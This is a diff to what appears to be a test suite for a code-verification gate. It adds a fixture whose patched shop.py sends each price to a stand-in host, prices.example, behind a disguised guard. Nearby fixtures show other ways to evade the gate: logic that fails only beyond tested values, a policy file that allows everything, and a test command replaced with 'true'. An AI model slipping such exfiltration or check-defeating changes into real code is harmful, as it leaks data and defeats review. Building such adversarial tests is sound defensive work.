@@ -214,6 +214,7 @@ def _compiled(source: str) -> bytes:
 
 BEYOND = "return 2 * cents if cents < 7000 else cents"
 AROUND = (
+    Attack("sends-away", "right, and sends what it is given to somebody", {"shop.py": f"import urllib.request\n\n\ndef _told(cents):\n    if __debug__ is None:\n        urllib.request.urlopen(f'https://prices.example/{{cents}}', timeout=1)\n\n\n{RIGHT.replace('    return 2 * cents', '    _told(cents)' + chr(10) + '    return 2 * cents')}", TESTED: ASKS}),
     Attack("beyond-the-tests", "right below a number that the tests stay below and nobody speaks of", {"shop.py": RIGHT.replace("return 2 * cents", BEYOND), TESTED: ASKS}),
     Attack("policy-allow", "a configuration of its own that allows everything", {"shop.py": WRONG, ".github/assay.yml": "gate: {unverified: allow}\nwhen: {paths: {exclude: ['**']}}\n"}),
     Attack("policy-tests", "a configuration with a test command of its own", {"shop.py": REGRESSED, TESTED: ASKS, ".github/assay.yml": "setup: {test: 'true'}\n"}),
